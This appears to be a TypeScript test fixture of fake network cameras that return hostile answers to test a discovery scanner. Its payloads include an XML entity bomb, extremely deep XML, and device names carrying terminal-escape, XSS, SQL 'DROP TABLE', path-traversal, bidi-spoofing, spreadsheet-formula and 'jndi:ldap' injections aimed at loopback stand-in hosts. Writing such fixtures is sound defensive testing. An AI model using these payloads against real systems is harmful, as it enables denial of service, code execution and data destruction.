import { OK, SDP, answering, withLength } from './behaviour.ts';
import type { Behaviour, Connect, Kinds } from './behaviour.ts';

const DEPTH = 50_000;
/** As deep as a datagram can be. */
const DATAGRAM_DEPTH = 8000;
const NODES = 1_000_000;
const SOAP_OPEN = '<?xml version="1.0"?><s:Envelope xmlns:s="http://www.w3.org/2003/05/soap-envelope"><s:Body>';
const SOAP_CLOSE = '</s:Body></s:Envelope>';
const SOAP = 'HTTP/1.1 200 OK\r\nContent-Type: application/soap+xml\r\n';

function soap(xml: string): { readonly http: Connect; readonly rtsp: Connect } {
  const [http, rtsp] = [withLength(SOAP, xml), withLength(SDP, xml)];
  return { http: answering(() => http), rtsp: answering(() => rtsp) };
}

/** The start of an answer to a probe with this question's message id. */
export function matchOf(question: Buffer): string {
  const id = /MessageID[^>]*>([^<]*)</.exec(question.toString('utf8'))?.[1] ?? '';
  return `<?xml version="1.0"?><s:Envelope xmlns:s="http://www.w3.org/2003/05/soap-envelope" xmlns:a="http://schemas.xmlsoap.org/ws/2004/08/addressing" xmlns:d="http://schemas.xmlsoap.org/ws/2005/04/discovery"><s:Header><a:RelatesTo>${id}</a:RelatesTo></s:Header><s:Body><d:ProbeMatches><d:ProbeMatch>`;
}

export const MATCH_END = '</d:ProbeMatch></d:ProbeMatches></s:Body></s:Envelope>';

const BROKEN = '<s:Envelope><s:Body><tds:GetSystemDateAndTimeResponse><tt:Year>20\u0000&&&<</wrong></s:Envelope';

/** Ten entities of ten each, nine levels deep. */
function entityBomb(): string {
  const levels = Array.from({ length: 9 }, (_, n) => `<!ENTITY e${n + 1} "${`&e${n};`.repeat(10)}">`);
  return `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e0 "AAAAAAAAAA">${levels.join('')}]>${SOAP_OPEN.slice(21)}<x>&e9;</x>${SOAP_CLOSE}`;
}

function utf8Safe(text: string): string {
  return text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;');
}

function operation(name: string, inner: string): string {
  const response = `<tds:${name}Response xmlns:tds="http://www.onvif.org/ver10/device/wsdl" xmlns:tt="http://www.onvif.org/ver10/schema">${inner}</tds:${name}Response>`;
  return `${SOAP_OPEN}${response}${SOAP_CLOSE}`;
}

/** Header values cannot hold these. */
function headerSafe(text: string): string {
  return ['\u0000', '\r', '\n', '"', '\\'].reduce((left, taken) => left.replaceAll(taken, ''), text).slice(0, 4000);
}

function namedWeb(name: string): Connect {
  const told = utf8Safe(name);
  const clock =
    '<tds:SystemDateAndTime><tt:UTCDateTime><tt:Time><tt:Hour>1</tt:Hour><tt:Minute>2</tt:Minute><tt:Second>3</tt:Second></tt:Time><tt:Date><tt:Year>2026</tt:Year><tt:Month>1</tt:Month><tt:Day>1</tt:Day></tt:Date></tt:UTCDateTime></tds:SystemDateAndTime>';
  const information = ['Manufacturer', 'Model', 'FirmwareVersion', 'SerialNumber', 'HardwareId'].map(
    (tag) => `<tds:${tag}>${told}</tds:${tag}>`,
  );
  const page = withLength(
    `HTTP/1.1 401 Unauthorized\r\nServer: ${headerSafe(name)}\r\nWWW-Authenticate: Basic realm="${headerSafe(name)}"\r\nContent-Type: text/html\r\n`,
    `<html><head><title>${told}</title></head><body>${name}</body></html>`,
  );
  return answering((request) => {
    if (request.includes('<GetSystemDateAndTime')) return withLength(SOAP, operation('GetSystemDateAndTime', clock));
    if (request.includes('<GetDeviceInformation')) return withLength(SOAP, operation('GetDeviceInformation', information.join('')));
    return page;
  });
}

/** A camera that tells this name wherever a name can be told: page, headers, realm, ONVIF, session of the stream, scopes. */
function named(name: string): () => Behaviour {
  return () => ({
    tcp: {
      http: namedWeb(name),
      rtsp: answering(() => withLength(`${SDP}Server: ${headerSafe(name)}\r\n`, `v=0\r\ns=${name}\r\nm=video 0 RTP/AVP 96\r\n`)),
    },
    udp: {
      wsd: (question, reply) =>
        reply(
          `${matchOf(question)}<d:Types>dn:NetworkVideoTransmitter</d:Types><d:Scopes>onvif://www.onvif.org/name/${encodeURIComponent(name.slice(0, 200))} onvif://www.onvif.org/hardware/${encodeURIComponent(name.slice(0, 200))}</d:Scopes>${MATCH_END}`,
        ),
    },
  });
}

/** Faults of what answers hold. */
export const CONTENT_KINDS = {
  'deep-xml': () => ({
    tcp: soap(`${SOAP_OPEN}${'<a>'.repeat(DEPTH)}${'</a>'.repeat(DEPTH)}${SOAP_CLOSE}`),
    udp: { wsd: (question, reply) => reply(`${matchOf(question)}${'<a>'.repeat(DATAGRAM_DEPTH)}`) },
  }),
  'broken-xml': () => ({ tcp: soap(BROKEN), udp: { wsd: (question, reply) => reply(`${matchOf(question)}${BROKEN}`) } }),
  'million-nodes': () => ({ tcp: soap(`${SOAP_OPEN}${'<a/>'.repeat(NODES)}${SOAP_CLOSE}`) }),
  'entity-bomb': () => ({ tcp: soap(entityBomb()), udp: { wsd: (_question, reply) => reply(entityBomb()) } }),
  'charset-lies': () => ({
    tcp: {
      http: answering(() =>
        withLength(
          'HTTP/1.1 200 OK\r\nContent-Type: text/html; charset=utf-16\r\n',
          Buffer.from('<title>\u{D800}\u0000+ADw-script+AD4-</title>\u00ff\u00fe', 'latin1'),
        ),
      ),
    },
  }),
  'name-ansi': named('\u001B]0;owned\u0007\u001B[2J\u001B[31mCAM\u0000-1\u009B6n'),
  'name-bidi': named('CAM-\u202Egpj.exe\u2066\u200F'),
  'name-formula': named('=HYPERLINK("http://127.52.255.9:18080/x","CAM")'),
  'name-html': named('</title><script>window.ancamOwned=1</script><img src=x onerror="window.ancamOwned=1">'),
  'name-sql': named("CAM'); DROP TABLE cameras;--"),
  'name-path': named('../../../../etc/passwd\\..\\%2e%2e%2f${jndi:ldap://127.52.255.9/a}'),
  'name-endless': named('CAM'.repeat(100_000)),
  'zero-length-answers': () => ({
    tcp: { http: answering(() => `${OK}Content-Length: 0\r\n\r\n`), rtsp: answering(() => withLength(SDP, '')) },
  }),
} satisfies Kinds<string>;
